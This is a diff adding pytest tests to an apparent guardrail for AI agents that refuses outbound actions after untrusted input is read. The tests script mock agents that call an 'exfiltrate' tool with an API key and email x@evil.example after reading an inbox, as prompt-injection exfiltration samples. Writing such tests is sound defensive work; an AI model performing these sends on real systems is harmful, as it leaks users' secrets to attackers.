@@ -66,6 +66,11 @@ def test_an_mcp_tools_annotations_become_a_declaration_with_the_specifications_d
     assert from_mcp({"openWorldHint": "no"}) == Declared("sends", untrusted=True)  # only false is false
 
 
+def test_a_declaration_with_an_unknown_effect_is_refused_with_the_three_it_may_be():
+    with pytest.raises(ValueError, match="'reads', 'writes' or 'sends', not 'send'"):
+        Declared("send")
+
+
 # --- decide: the trifecta rule and read-only ----------------------------------------------------
 
 
@@ -109,6 +114,33 @@ def test_a_send_in_the_same_reply_as_the_untrusted_read_is_refused_too():
     )
     run = run_agent(mock.client(script), "hi", world.tools(), guardrails=[Trifecta(DECLARATIONS)])
     assert world.sent == [] and [o.error_type for o in run.observations] == [None, "refused"]
+
+
+def test_an_undeclared_tool_after_an_untrusted_read_is_refused():
+    def exfiltrate(data: str) -> str:
+        """Store data somewhere."""
+        return "stored"
+
+    world = Mailroom()
+    script = mock.Script(mock.call("read_inbox"), mock.call("exfiltrate", data=API_KEY), "done")
+    tools = [*world.tools(), exfiltrate]
+    run = run_agent(mock.client(script), "hi", tools, guardrails=[Trifecta(DECLARATIONS)])
+    assert [o.error_type for o in run.observations] == [None, "refused"]
+
+
+def test_untrusted_text_from_earlier_in_a_continued_conversation_still_counts():
+    world = Mailroom()
+    earlier = run_agent(mock.client(mock.Script(mock.call("read_inbox"), "read")), "hi", world.tools())
+    script = mock.Script(mock.call("send_email", to="x@evil.example", subject="s", body="b"), "done")
+    later = [*earlier.messages, {"role": "user", "content": "now send it"}]
+    run = run_agent(mock.client(script), later, world.tools(), guardrails=[Trifecta(DECLARATIONS)])
+    assert world.sent == [] and run.observations[0].error_type == "refused"
+
+
+def test_a_plan_that_cannot_be_read_is_refused_in_words():
+    script = mock.Script(mock.call("submit_plan", steps="read everything"))
+    with pytest.raises(ValueError, match="the model's plan could not be read"):
+        plan_from_request(mock.client(script), "hi", {"read_inbox": None})
 
 
 def test_the_trifecta_rule_asks_a_person_and_a_denial_keeps_the_data_in():
